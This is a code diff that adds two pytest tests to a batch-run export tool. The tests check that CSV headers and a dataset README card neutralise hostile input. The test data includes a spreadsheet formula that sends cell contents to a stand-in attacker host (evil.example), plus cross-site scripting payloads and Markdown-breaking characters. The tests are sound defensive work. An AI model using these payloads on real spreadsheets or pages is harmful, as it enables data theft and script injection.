@@ -96,3 +96,53 @@ def test_an_embedded_page_takes_nothing_through_a_link(tmp_path: Path) -> None:
     assert "data:image/png;base64," in page  # the real file is embedded
     assert base64.b64encode(secret.read_bytes()).decode()[:20] not in page
     assert 'src="flux/k2.png"' in page  # the link is only linked, as a missing file would be
+
+
+def test_a_variable_named_like_a_formula_is_a_text_header_cell(tmp_path: Path) -> None:
+    import csv
+
+    from test_report import rec, write_run
+
+    from batchrun.cli import main
+
+    run = tmp_path / "run"
+    run.mkdir()
+    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    write_run(run, [rec("k1", vars={name: "x", "@cmd": "y"}, output="ok")])
+    out = tmp_path / "out.csv"
+    assert main(["export", str(run), "--format", "csv", "--to", str(out)]) == 0
+    with out.open(newline="") as handle:
+        header = next(csv.reader(handle))
+    assert "'" + name in header
+    assert "'@cmd" in header
+    assert not any(cell.startswith(("=", "@", "+", "-")) for cell in header)
+
+
+def test_server_and_manifest_text_on_the_dataset_card_stays_text(tmp_path: Path) -> None:
+    import hashlib
+
+    from test_report import image, write_run
+
+    from batchrun.cli import main
+    from batchrun.manifest.records import FileRecord
+
+    run = tmp_path / "run"
+    run.mkdir()
+    hostile_version = "<img src=x onerror=alert(1)>|`"
+    hostile_target = "acme/x`|<script>alert(1)</script>\n# heading"
+    planted = image(run, "k1", "flux/k1.png", version=hostile_version)
+    data = (run / "flux" / "k1.png").read_bytes()
+    file = FileRecord(
+        planted.files[0].url, "flux/k1.png", hashlib.sha256(data).hexdigest(), len(data)
+    )
+    write_run(run, [planted.replace(files=(file,), target={"model": hostile_target})])
+    dest = tmp_path / "dataset"
+    assert main(["export", str(run), "--format", "hf", "--to", str(dest)]) == 0
+    card = (dest / "README.md").read_text()
+    body = card.split("\n---\n", 1)[1]  # after the YAML metadata, which YAML quotes
+    # Markdown shows a backslash-escaped `<` as text: no tag of the server's can open.
+    assert "<" not in body.replace("\\<", "")
+    row = next(line for line in body.splitlines() if line.startswith("| flux"))
+    # One row of six cells: no `|` of the server's split it, no line break ended it.
+    assert row.replace("\\|", "").count("|") == 7
+    assert "\n# heading" not in card
